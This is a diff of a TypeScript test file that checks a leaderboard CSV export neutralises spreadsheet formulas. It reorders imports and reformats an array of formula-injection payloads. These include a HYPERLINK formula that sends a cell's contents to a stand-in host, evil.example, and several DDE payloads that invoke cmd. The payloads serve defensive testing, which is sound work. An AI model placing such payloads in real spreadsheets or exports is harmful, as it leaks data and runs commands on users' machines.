@@ -3,14 +3,22 @@
 // /api/v1/leaderboard?format=csv) writes it with a leading ' instead.
 import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+
 import { GET as getLeaderboard } from "@/app/api/v1/leaderboard/route";
-import { db } from "@/lib/db";
 import { invalidateRankingSnapshot } from "@/lib/data/leaderboard/ranking-snapshot";
+import { db } from "@/lib/db";
 import { buildCsvTemplate } from "@/lib/importers/csv";
 import { callRoute } from "@/tests/support/call-route";
 import { createIdentities } from "@/tests/support/identities";
 
-const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
 let submissionIds: string[] = [];
 
 beforeAll(async () => {
